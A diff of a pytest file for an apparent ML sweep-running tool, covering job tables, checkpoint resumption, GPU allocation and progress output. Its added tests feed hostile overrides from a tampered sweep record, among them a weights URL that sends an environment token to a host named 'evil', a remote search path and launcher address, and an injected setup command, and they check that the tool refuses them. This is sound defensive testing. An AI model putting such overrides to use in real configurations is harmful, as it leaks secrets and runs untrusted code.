@@ -1,5 +1,7 @@
 """Numbers, locks and the table of a sweep's jobs; the line that tells how far it is."""
 
+import json
+import re
 import signal
 import subprocess
 import sys
@@ -8,12 +10,12 @@ from typing import Any
 
 import pytest
 
+from quartet.config.overrides import is_job_override
 from quartet.records import locks
 from quartet.records import result as record
-from quartet.sweeps import directory, jobs
-from quartet.sweeps import local as processes
-from quartet.sweeps.jobs import Job, Table
-from quartet.sweeps.live import Live
+from quartet.records.sweep_table import Job, Table, list_jobs
+from quartet.sweeps import directory, local
+from quartet.sweeps.jobs import Progress, resume_overrides
 
 
 def finish(job: Job, status: str = "finished", best: float | None = None, **monitor: Any) -> None:
@@ -54,13 +56,19 @@ def test_job_tried_again_counts_once(tmp_path: Path) -> None:
     table.add(["seed=0"], "")
     table.write()
     assert [job.number for job in Table(tmp_path).current] == [1]
-    assert [job.number for job in jobs.jobs_of(tmp_path)] == [1]
+    assert [job.number for job in list_jobs(tmp_path)] == [1]
 
 
 def test_sweep_without_a_table_has_the_jobs_of_its_directories(tmp_path: Path) -> None:
     for name in ("10", "9", "pictures"):
         (tmp_path / name).mkdir()
-    assert [job.number for job in jobs.jobs_of(tmp_path)] == [9, 10]
+    assert [job.number for job in list_jobs(tmp_path)] == [9, 10]
+
+
+def test_table_of_version_0_1_is_read(tmp_path: Path) -> None:
+    job = {"overrides": ["seed=0"], "conf": "c", "retried_as": None, "ended": "killed by signal 9"}
+    (tmp_path / "sweep.json").write_text(json.dumps({"command": [], "jobs": {"0": job}}))
+    assert Table(tmp_path).jobs[0].exit_reason == "killed by signal 9"
 
 
 def test_damaged_table_is_refused(tmp_path: Path) -> None:
@@ -75,21 +83,21 @@ def test_damaged_table_is_refused(tmp_path: Path) -> None:
 )
 def test_only_what_did_not_come_to_an_end_is_open(status: str, open_: bool, tmp_path: Path) -> None:
     job = Job(tmp_path / "0", [], "")
-    assert job.open
+    assert job.is_pending
     finish(job, status)
-    assert job.open == open_
+    assert job.is_pending == open_
 
 
 def test_job_goes_on_from_its_checkpoints_in_a_record_of_its_own(tmp_path: Path) -> None:
     job = Job(tmp_path / "0", [], "")
-    assert job.go_on() == []
+    assert resume_overrides(job) == []
     (job.directory / ".hydra").mkdir(parents=True)
     (job.directory / ".hydra/config.yaml").write_text("seed: 0")
-    assert job.go_on() == []  # it was killed before it saved anything, and starts anew
+    assert resume_overrides(job) == []  # it was killed before it saved anything, and starts anew
     (job.directory / "checkpoints").mkdir()
     (job.directory / "checkpoints" / "last.ckpt").touch()
     place = f"resume='{job.directory}'"
-    assert job.go_on() == [place, "hydra.output_subdir=.hydra/starting"]
+    assert resume_overrides(job) == [place, "hydra.output_subdir=.hydra/starting"]
 
 
 # Locks
@@ -175,7 +183,7 @@ def test_settings_of_a_sweep_need_no_plus() -> None:
 def test_resuming_a_sweep_takes_what_it_was_started_with(tmp_path: Path) -> None:
     table = Table(tmp_path)
     table.add(["seed=0"], "")
-    table.command = ["seed=0,1", "launcher=local", "hydra.launcher.n_jobs=2", "--config-dir=/x"]
+    table.command = ["seed=0,1", "launcher=local", "hydra.launcher.n_jobs=2"]
     table.write()
     again = directory.with_sweep([f"sweep.resume={tmp_path}", "launcher.n_jobs=4"])
     assert again == [
@@ -184,6 +192,52 @@ def test_resuming_a_sweep_takes_what_it_was_started_with(tmp_path: Path) -> None
     ]
     alone = directory.with_sweep([f"sweep.resume={tmp_path}", "launcher=basic"])
     assert not [each for each in alone if "n_jobs" in each]  # another launcher, other settings
+
+
+HOSTILE = [
+    *("resume=mine", "+directory=mine", "hydra.sweep.dir=mine", "hydra/launcher=basic", 7),
+    *("--experimental-rerun=a.pickle", "~hydra.callbacks", "launcher=ray", "sweep.n_trials=9"),
+    *(" hydra.run.dir=mine", "+hydra.job.env_set.GIT_CONFIG_COUNT='1'", "++check=only"),
+    *("hydra.searchpath=[pkg://evil]", "model.weights='http://evil/${oc.env:MY_TOKEN}'"),
+]
+
+
+@pytest.mark.parametrize("override", HOSTILE)
+def test_record_of_a_sweep_sets_trainings_alone(
+    override: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    job = {"overrides": ["seed=1", override], "conf": ""}
+    (tmp_path / "sweep.json").write_text(json.dumps({"command": [], "jobs": {"0": job}}))
+    with pytest.raises(SystemExit, match="2"):
+        directory.with_sweep([f"sweep.resume={tmp_path}"])
+    assert "may come from elsewhere, and sets more than trainings" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        *("hydra.launcher.address=ray://evil:1", "hydra.launcher.env=[MY_TOKEN]"),
+        *("+hydra.launcher.setup=[touch canary]", "hydra.searchpath=[pkg://evil]"),
+        *("hydra.job.chdir=true", "--config-dir=/x"),
+    ],
+)
+def test_recorded_command_starts_nothing_elsewhere(override: str, tmp_path: Path) -> None:
+    job = {"overrides": ["seed=1"], "conf": ""}
+    content = {"command": ["seed=1,2", override], "jobs": {"0": job}}
+    (tmp_path / "sweep.json").write_text(json.dumps(content))
+    with pytest.raises(SystemExit, match="2"):
+        directory.with_sweep([f"sweep.resume={tmp_path}"])
+    if override.startswith("hydra."):  # what is typed here replaces the record's
+        kept = directory.with_sweep([f"sweep.resume={tmp_path}", override])
+        assert kept[3:] == ["seed=1,2", f"hydra.sweep.dir='{tmp_path}'"]
+
+
+@pytest.mark.parametrize(
+    "override",
+    ["seed=1", "optimizer=sgd", "+loss.by=raise", "~scheduler", "a/b@c.d=e", "checkpoint.x=1"],
+)
+def test_settings_of_a_training_are_job_overrides(override: str) -> None:
+    assert is_job_override(override)
 
 
 def test_resuming_what_is_no_sweep_is_refused(
@@ -198,20 +252,27 @@ def test_resuming_what_is_no_sweep_is_refused(
 
 
 def test_cores_and_gpus_are_divided_among_the_slots(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(processes, "cores", lambda: 8)
+    monkeypatch.setattr(local, "count_cores", lambda: 8)
 
     def gpus(slots: int, each: int, *names: str) -> list[str]:
-        made = processes.environments(slots, each, names, given={})
+        made = local.environments(slots, each, names, given={})
         return [environment["CUDA_VISIBLE_DEVICES"] for environment in made]
 
     assert gpus(2, 1, "0", "1") == ["0", "1"]
     assert gpus(2, 2, "0", "1", "2", "3") == ["0,1", "2,3"]
     assert gpus(3, 1, "4", "7") == ["4", "7", "4"]  # shared
     assert gpus(1, 4, "0", "1") == ["0,1"]
-    assert processes.environments(3, 1, [], given={}) == [{"OMP_NUM_THREADS": "2"}] * 3
-    assert processes.environments(16, 1, [], given={})[0] == {"OMP_NUM_THREADS": "1"}
-    assert processes.environments(1, 1, [], given={}) == [{}]  # torch divides them itself
-    assert processes.environments(2, 1, [], given={"OMP_NUM_THREADS": "5"}) == [{}, {}]
+    assert local.environments(3, 1, [], given={}) == [{"OMP_NUM_THREADS": "2"}] * 3
+    assert local.environments(16, 1, [], given={})[0] == {"OMP_NUM_THREADS": "1"}
+    assert local.environments(1, 1, [], given={}) == [{}]  # torch divides them itself
+    assert local.environments(2, 1, [], given={"OMP_NUM_THREADS": "5"}) == [{}, {}]
+
+
+def test_flags_of_the_configuration_reach_the_jobs() -> None:
+    given = ["-m", "-cd", "mine", "--config-name=other", "seed=1", "-cp=/conf"]
+    flags = ["--config-path", "/conf", "--config-name", "other", "--config-dir", "mine"]
+    assert local.config_flags(given) == flags
+    assert local.config_flags(["-m", "seed=1"]) == []
 
 
 def test_process_that_goes_on_takes_everything_from_its_record(
@@ -219,11 +280,11 @@ def test_process_that_goes_on_takes_everything_from_its_record(
 ) -> None:
     started: list[list[str]] = []
     monkeypatch.setattr(
-        processes.subprocess, "Popen", lambda command, **kwargs: started.append(command)
+        local.subprocess, "Popen", lambda command, **kwargs: started.append(command)
     )
-    monkeypatch.setattr(processes, "visible_gpus", list)
-    started_here = processes.Processes(
-        processes.Program(["train.py"], ["--config-dir", "x"]), slots=2, gpus_per_job=1
+    monkeypatch.setattr(local, "visible_gpus", list)
+    started_here = local.Processes(
+        local.Program(["train.py"], ["--config-dir", "x"]), slots=2, gpus_per_job=1
     )
     jobs_ = [Job(tmp_path / str(number), ["seed=1"], "") for number in range(2)]
     (jobs_[1].directory / "checkpoints").mkdir(parents=True)
@@ -245,33 +306,32 @@ def test_process_that_goes_on_takes_everything_from_its_record(
 @pytest.mark.parametrize(("n_jobs", "gpus"), [(0, 1), (1, 0)])
 def test_no_slots_are_refused(n_jobs: int, gpus: int) -> None:
     with pytest.raises(ValueError, match=r"launcher\.\w+ must be at least 1, got 0"):
-        processes.Processes(processes.Program([], []), slots=n_jobs, gpus_per_job=gpus)
+        local.Processes(local.Program([], []), slots=n_jobs, gpus_per_job=gpus)
 
 
-# The line
+# Progress
 
 
-def test_line_tells_how_far_the_sweep_is(
+def test_line_of_each_job_tells_how_far_the_sweep_is(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     table = Table(tmp_path)
     made = [table.add(["data=wine", f"seed={seed}"], "") for seed in range(5)]
     finish(made[0], best=0.5, metric="val/accuracy", mode="max")
-    with Live(table.current).shown() as live:
-        assert str(live) == "sweep: 1 of 5 done, best val/accuracy 0.5 (job 0)"
-        live.start(made[1])
-        assert str(live) == "sweep: 1 of 5 done, 1 running, best val/accuracy 0.5 (job 0)"
-        finish(made[1], best=0.75, metric="val/accuracy", mode="max")
-        live.end(made[1])
-        assert str(live).startswith("sweep: 2 of 5 done, best val/accuracy 0.75 (job 1), ")
-        assert str(live).endswith(" left")
-        finish(made[2], "failed")
-        live.end(made[2])
-        assert str(live).startswith("sweep: 2 of 5 done, 1 failed, best val/accuracy 0.75")
-        live.end(made[3], "killed by signal 9")
-    told = capsys.readouterr().err.splitlines()
-    assert [line.partition(";")[0] for line in told] == [
+    progress = Progress(table.current)
+    assert str(progress) == "sweep: 1 of 5 done, best val/accuracy 0.5 (job 0)"
+    finish(made[1], best=0.75, metric="val/accuracy", mode="max")
+    progress.end(made[1])
+    finish(made[2], "failed")
+    progress.end(made[2])
+    progress.end(made[3], "killed by signal 9")
+    lines = capsys.readouterr().err.splitlines()
+    assert [line.partition(";")[0] for line in lines] == [
         "job 1 (seed=1) finished",
         "job 2 (seed=2) failed",
         "job 3 (seed=3) killed by signal 9",
     ]
+    best = (
+        r"; sweep: 2 of 5 done, 1 failed, best val/accuracy 0\.75 \(job 1\), about 0:00:0\d left$"
+    )
+    assert re.search(best, lines[1])
